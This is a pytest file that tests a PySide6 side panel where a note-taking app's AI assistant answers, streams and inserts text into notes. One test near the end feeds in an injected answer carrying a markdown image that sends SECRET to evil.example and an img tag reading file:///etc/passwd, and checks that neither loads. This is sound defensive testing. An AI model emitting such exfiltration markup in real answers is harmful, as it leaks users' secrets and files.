"""The side panel from request to insertion, over a scripted engine."""

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QInputMethodEvent
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel, QPushButton, QWidget

from core import errors
from core.assist.model import Finish, NoteContext, Work
from core.llm.chat import Tier
from desktop.bridge.engine_bridge import EngineBridge
from desktop.panel.answer_card import AnswerState
from desktop.panel.side_panel import SidePanel
from tests.desktop.fake_link import (
    a_citation,
    a_quote,
    model_chosen,
    model_state,
    quotes_found,
)
from tests.desktop.panel.conftest import NOTE, OpenNote

SELECTED = NoteContext("a.md", title="A", selection="We open the beta in March.")
KEY = Qt.Key
CTRL, SHIFT = Qt.KeyboardModifier.ControlModifier, Qt.KeyboardModifier.ShiftModifier


def last_card(panel):
    return panel.conversation.cards[-1]


def wait_for(qtbot, panel, state):
    qtbot.waitUntil(lambda: last_card(panel).state is state)


def answered(qtbot, panel, asking, text="Open in March [1].", **end):
    asking.send(quotes_found(a_quote()), model_chosen())
    asking.say(text)
    asking.end(text, **({"citations": (a_citation(),)} | end))
    qtbot.waitUntil(lambda: last_card(panel).state not in (AnswerState.WAITING, AnswerState.STREAMING))


def test_asked_streamed_and_inserted(qtbot, panel, ask):
    asking = ask("why March?")
    answered(qtbot, panel, asking)
    with qtbot.waitSignal(panel.insert_requested) as got:
        qtbot.mouseClick(last_card(panel).actions_row.insert_button, Qt.MouseButton.LeftButton)
    assert got.args == [None, "Open in March.\n\nSources: [[Pilot review]]"]


def test_an_answer_goes_in_as_a_paragraph_where_the_caret_stands_now(qtbot, panel, ask, note):
    answered(qtbot, panel, ask("why?"), "In March.", citations=())
    note.context = NoteContext("b.md", before="A line", selection=" selected", after="\nnext")
    with qtbot.waitSignal(panel.insert_requested) as got:
        panel.commands.insert.trigger()
    assert got.args == [None, "\n\nIn March.\n"]


def test_written_text_goes_in_exactly_at_the_caret(qtbot, panel, ask, note):
    note.context = SELECTED
    panel.refresh_context()
    answered(qtbot, panel, ask("go on"), "and so on.", citations=())
    with qtbot.waitSignal(panel.insert_requested) as got:
        panel.commands.insert.trigger()
    assert got.args == [None, "and so on."]


def test_with_no_note_open_the_card_says_that_there_is_nowhere_to_insert(qtbot, panel, ask, note):
    answered(qtbot, panel, ask())
    note.context = None
    with qtbot.assertNotEmitted(panel.insert_requested):
        panel.commands.insert.trigger()
    assert "No note is open" in last_card(panel).findChild(QLabel, "answerStatus").text()


def test_by_keyboard_alone(qtbot, panel, link):
    """Ctrl+L, type, Enter, read, Ctrl+Enter: the answer is in the note."""
    panel.activateWindow()
    QTest.keyClick(panel, KEY.Key_L, Qt.KeyboardModifier.ControlModifier)
    assert panel.composer.edit.hasFocus()
    QTest.keyClicks(panel.composer.edit, "why?")
    QTest.keyClick(panel.composer.edit, KEY.Key_Return)
    answered(qtbot, panel, link.asked[0])
    assert panel.composer.edit.hasFocus()
    with qtbot.waitSignal(panel.insert_requested):
        QTest.keyClick(panel.composer.edit, KEY.Key_Return, Qt.KeyboardModifier.ControlModifier)
    with qtbot.waitSignal(panel.editor_requested):
        QTest.keyClick(panel.composer.edit, KEY.Key_Escape)


def test_every_control_is_reached_by_tab_and_has_a_name(qtbot, panel, ask):
    answered(qtbot, panel, ask())
    panel.activateWindow()
    panel.composer.edit.setFocus()
    reached = []
    for _ in range(40):
        QTest.keyClick(QApplication.focusWidget() or panel, KEY.Key_Tab)
        reached.append(QApplication.focusWidget())
    names = {widget.objectName() for widget in reached if widget is not None}
    assert {"composer", "insertButton", "moreButton", "copyButton", "citation", "quote"} <= names
    assert {"sceneAsk", "tierFast", "noteChip"} <= names | {"sceneWrite", "tierPrecise"} | names
    nameless = [w for w in reached if w is not None and not (w.accessibleName() or getattr(w, "text", str)())]
    assert nameless == []


def test_the_request_carries_scene_tier_note_and_passages(panel, link, qtbot):
    panel.tiers.toggle()
    qtbot.mouseClick(panel.findChild(QPushButton, "sceneWrite"), Qt.MouseButton.LeftButton)
    qtbot.mouseClick(panel.findChild(QPushButton, "passagesChip"), Qt.MouseButton.LeftButton)
    panel.composer.set_text("shorten")
    panel.composer.submit()
    request = link.asked[0].request
    assert (request.text, request.work, request.tier) == ("shorten", Work.WRITE, Tier.PRECISE)
    assert (request.note, request.use_passages) == (NOTE, False)


def test_with_no_note_open_the_vault_is_asked_all_the_same(panel, ask, note):
    note.context = None
    panel.refresh_context()
    assert ask().request.note is None


def test_replace_hands_back_the_anchor_of_the_request(qtbot, panel, ask, note):
    note.context, note.anchor = SELECTED, "where it was"
    panel.refresh_context()
    answered(qtbot, panel, ask("shorten"), "Beta in March.", citations=())
    note.anchor = "somewhere else by now"
    with qtbot.waitSignal(panel.replace_requested) as got:
        qtbot.mouseClick(last_card(panel).actions_row.replace_button, Qt.MouseButton.LeftButton)
    assert got.args == ["where it was", "Beta in March."]


def test_one_key_replaces_the_selection_with_the_latest_answer_only(qtbot, panel, ask, note):
    note.context = SELECTED
    panel.refresh_context()
    answered(qtbot, panel, ask("shorten"), "Beta in March.", citations=())
    panel.activateWindow()
    with qtbot.waitSignal(panel.replace_requested) as got:
        QTest.keyClick(panel.composer.edit, KEY.Key_Return, CTRL | SHIFT)
    assert got.args == ["anchor", "Beta in March."]
    answered(qtbot, panel, ask("again"), "Beta", finish=Finish.INCOMPLETE, citations=())
    with qtbot.assertNotEmitted(panel.replace_requested):
        panel.commands.replace.trigger()


def test_stop_reaches_the_engine_and_keeps_the_words(qtbot, panel, ask):
    asking = ask()
    asking.send(quotes_found(a_quote()), model_chosen())
    asking.say("Open in")
    wait_for(qtbot, panel, AnswerState.STREAMING)
    qtbot.mouseClick(panel.composer.stop_button, Qt.MouseButton.LeftButton)
    assert asking.cancelled
    assert last_card(panel).state is AnswerState.STOPPED
    assert panel.composer.send_button.isVisible()
    asking.say(" late words")
    QApplication.processEvents()
    assert last_card(panel).view.markdown == "Open in"


def test_escape_stops_first_and_leaves_afterwards(qtbot, panel, ask):
    asking = ask()
    panel.composer.edit.setFocus()
    with qtbot.assertNotEmitted(panel.editor_requested):
        qtbot.keyClick(panel.composer.edit, KEY.Key_Escape)
    assert asking.cancelled
    with qtbot.waitSignal(panel.editor_requested):
        qtbot.keyClick(panel.composer.edit, KEY.Key_Escape)


@pytest.mark.parametrize(
    "error", [errors.ModelUnreachable(), errors.KeyRefused(), errors.ModelUnknown(), errors.EngineStopped()]
)
def test_a_failure_stands_on_its_card_and_can_be_tried_again(qtbot, panel, ask, link, error):
    ask("why?").send(error)
    wait_for(qtbot, panel, AnswerState.FAILED)
    assert panel.composer.send_button.isVisible()
    qtbot.mouseClick(
        last_card(panel).problem.findChild(QPushButton, "retryButton"), Qt.MouseButton.LeftButton
    )
    assert len(panel.conversation.cards) == 1
    assert link.asked[1].request == link.asked[0].request
    answered(qtbot, panel, link.asked[1])
    assert last_card(panel).state is AnswerState.COMPLETE


def test_more_asks_the_same_again_on_a_card_of_its_own(qtbot, panel, ask, link):
    answered(qtbot, panel, ask("why?"))
    qtbot.mouseClick(last_card(panel).actions_row.more_button, Qt.MouseButton.LeftButton)
    assert len(panel.conversation.cards) == 2
    assert link.asked[1].request == link.asked[0].request


def test_more_while_another_answer_streams_stops_that_one(qtbot, panel, ask, link):
    answered(qtbot, panel, ask("first"))
    streaming = ask("second")
    qtbot.mouseClick(panel.conversation.cards[0].actions_row.more_button, Qt.MouseButton.LeftButton)
    assert streaming.cancelled
    assert panel.conversation.cards[1].state is AnswerState.STOPPED
    assert link.asked[2].request.text == "first"


def test_ctrl_enter_inserts_the_latest_answer_that_has_words(qtbot, panel, ask):
    answered(qtbot, panel, ask("one"), "First.", citations=())
    ask("two").send(errors.ModelTimedOut())
    wait_for(qtbot, panel, AnswerState.FAILED)
    with qtbot.waitSignal(panel.insert_requested) as got:
        panel.commands.insert.trigger()
    assert got.args == [None, "First."]


def test_ctrl_enter_with_nothing_to_insert_does_nothing(qtbot, panel):
    with qtbot.assertNotEmitted(panel.insert_requested):
        panel.commands.insert.trigger()


def test_citations_open_their_note(qtbot, panel, ask):
    answered(qtbot, panel, ask())
    row = last_card(panel).findChild(QWidget, "citation")
    with qtbot.waitSignal(panel.open_requested) as got:
        qtbot.mouseClick(row, Qt.MouseButton.LeftButton)
    assert got.args == ["Projects/Pilot review.md", 14]


def test_a_selection_suggests_writing_while_nothing_is_typed(panel, note):
    note.context = SELECTED
    panel.refresh_context()
    assert panel.scenes.work is Work.WRITE
    note.context = NOTE
    panel.refresh_context()
    assert panel.scenes.work is Work.ASK


def test_a_selection_made_while_a_request_is_typed_changes_nothing(panel, note):
    panel.composer.set_text("why")
    note.context = SELECTED
    panel.refresh_context()
    assert panel.scenes.work is Work.ASK


def test_nothing_of_ours_happens_while_a_request_is_composed(panel, note):
    QApplication.sendEvent(panel.composer.edit, QInputMethodEvent("wei shen me", []))
    note.context = SELECTED
    panel.refresh_context()
    assert panel.scenes.work is Work.ASK


def test_the_engine_may_come_later_than_the_request(qtbot, theme, link):
    bridge = EngineBridge()
    panel = SidePanel(bridge, theme, OpenNote())
    qtbot.addWidget(panel)
    panel.composer.set_text("why?")
    panel.composer.submit()
    assert last_card(panel).state is AnswerState.WAITING
    bridge.attach(link)
    qtbot.waitUntil(lambda: len(link.asked) == 1)
    assert link.asked[0].request.text == "why?"
    bridge.close()


def test_a_request_stopped_before_the_engine_came_is_never_sent(qtbot, theme, link):
    bridge = EngineBridge()
    panel = SidePanel(bridge, theme, OpenNote())
    qtbot.addWidget(panel)
    panel.composer.set_text("why?")
    panel.composer.submit()
    panel.stop()
    bridge.attach(link)
    QTest.qWait(150)
    assert link.asked == []
    assert last_card(panel).state is AnswerState.STOPPED
    bridge.close()


def test_the_first_thing_shown_are_requests_that_work(qtbot, panel):
    assert panel.welcome.isVisible()
    example = panel.welcome.findChild(QWidget, "example")
    qtbot.mouseClick(example, Qt.MouseButton.LeftButton)
    assert panel.composer.edit.toPlainText() == example.words
    panel.composer.submit()
    assert panel.conversation.isVisible()
    assert not panel.welcome.isVisible()


def test_the_model_behind_the_tier_is_named_and_can_be_replaced(qtbot, panel):
    panel.set_model(model_state(Tier.FAST, demonstration=True))
    panel.set_model(model_state(Tier.PRECISE, model="big", place="api.example.com"))
    label = panel.findChild(QLabel, "tierModel")
    assert label.accessibleName() == "Demonstration model"
    with qtbot.waitSignal(panel.settings_requested):
        qtbot.mouseClick(panel.findChild(QPushButton, "connectButton"), Qt.MouseButton.LeftButton)
    panel.commands.tier.trigger()
    assert label.accessibleName() == "big, at api.example.com"


def test_no_words_are_ever_painted_over_the_buttons_below(qtbot, panel, ask):
    """At every repaint, not only once all layout events have been handled."""
    ask()
    card = last_card(panel)
    card.show_quotes(quotes_found(a_quote()))
    card.show_model(model_chosen())
    for _ in range(12):
        card.add_text("A sentence of the answer that takes a good part of a line.\n\n")
        card.view._pace.stop()
        assert card.view.isVisible()
        assert card.view.height() >= card.view.document().size().height()
        assert card.actions_row.mapTo(card, QPoint(0, 0)).y() >= card.view.geometry().bottom()
        assert card.rect().contains(card.actions_row.geometry())


def test_many_tokens_are_rendered_in_few_steps(qtbot, panel, ask, monkeypatch):
    asking = ask()
    card = last_card(panel)
    steps = []
    render = card.view._replace_open
    monkeypatch.setattr(card.view, "_replace_open", lambda *a: (steps.append(1), render(*a)))
    asking.send(quotes_found(a_quote()), model_chosen())
    asking.say(*["word "] * 1500)
    asking.end("word " * 1500, citations=())
    wait_for(qtbot, panel, AnswerState.COMPLETE)
    assert card.view.markdown == "word " * 1500
    assert len(steps) < 300


def test_an_injected_answer_loads_nothing_and_opens_nothing(qtbot, panel, ask, monkeypatch):
    opened = []
    monkeypatch.setattr("desktop.panel.links.QDesktopServices.openUrl", opened.append)
    text = "![x](https://evil.example/?q=SECRET) <img src='file:///etc/passwd'> [ok](//evil.example)"
    answered(qtbot, panel, ask(), text, citations=())
    html = last_card(panel).view.document().toHtml()
    assert "<img" not in html
    assert 'href="//' not in html
    assert opened == []


@pytest.mark.parametrize("width", [320, 380, 480])
def test_the_panel_fits_its_width_whatever_the_names(qtbot, panel, ask, note, width):
    note.context = NoteContext("x/" + "名字" * 90 + ".md", title="很长的标题" * 40, block="b")
    panel.set_model(
        model_state(Tier.FAST, model="organisation/" + "model-" * 40, place="h" * 80 + ".example")
    )
    panel.refresh_context()
    panel.resize(width, 700)
    asking = ask("长" * 600)
    quote = a_quote(1, "词" * 900, path="深/" * 30 + "名" * 80 + ".md", heading_path=("标题" * 60,))
    asking.send(quotes_found(quote), model_chosen(model="m" * 200))
    answered(qtbot, panel, asking, "x" * 500 + " [1]", citations=(a_citation(1, "名" * 200 + ".md"),))
    QApplication.processEvents()
    assert panel.width() == width
    for child in (last_card(panel), panel.composer, panel.context_bar):
        assert child.mapTo(panel, child.rect().topRight()).x() < width


def test_a_note_that_is_empty_or_gone_is_no_obstacle(qtbot, panel, ask, note):
    note.context = NoteContext("empty.md")
    panel.refresh_context()
    assert ask().request.note is None


def test_the_answer_of_quotes_inserts_quotes(qtbot, panel, ask):
    asking = ask()
    asking.send(quotes_found(a_quote()))
    asking.end("> x [1]", finish=Finish.QUOTES_ONLY)
    wait_for(qtbot, panel, AnswerState.QUOTES_ONLY)
    assert last_card(panel).text_for_note == "> Churn in the pilot fell to 3 %.\n> — [[Pilot review]]"


@pytest.mark.parametrize(
    "outcome",
    [
        ("replace_refused", (), "nothing was replaced"),
        ("replaced", (), "Undo"),
        ("change_failed", (errors.NoteNotSaved(path="a.md", reason="backup"),), "nothing was changed"),
    ],
)
def test_what_became_of_a_replacement_is_told_on_the_card_that_asked(qtbot, panel, ask, note, outcome):
    method, details, words = outcome
    note.context = SELECTED
    panel.refresh_context()
    answered(qtbot, panel, ask("shorten"), "Beta in March.", citations=())
    asked = last_card(panel)
    with qtbot.waitSignal(panel.replace_requested):
        panel.commands.replace.trigger()
    answered(qtbot, panel, ask("next"))
    getattr(panel, method)(*details)
    assert words in asked.findChild(QLabel, "answerStatus").text()
    assert last_card(panel).findChild(QLabel, "answerStatus").text() == ""


def test_another_vault_begins_with_an_empty_panel(qtbot, panel, ask, link):
    answered(qtbot, panel, ask("first"))
    streaming = ask("second")
    panel.clear()
    assert streaming.cancelled
    assert panel.conversation.cards == []
    assert panel.welcome.isVisible()
    with qtbot.assertNotEmitted(panel.insert_requested):
        panel.commands.insert.trigger()
    answered(qtbot, panel, ask("third"))
    assert panel.conversation.isVisible()
    assert len(panel.conversation.cards) == 1
    assert abs(last_card(panel).mapTo(panel.conversation.viewport(), QPoint(0, 0)).y()) <= 1
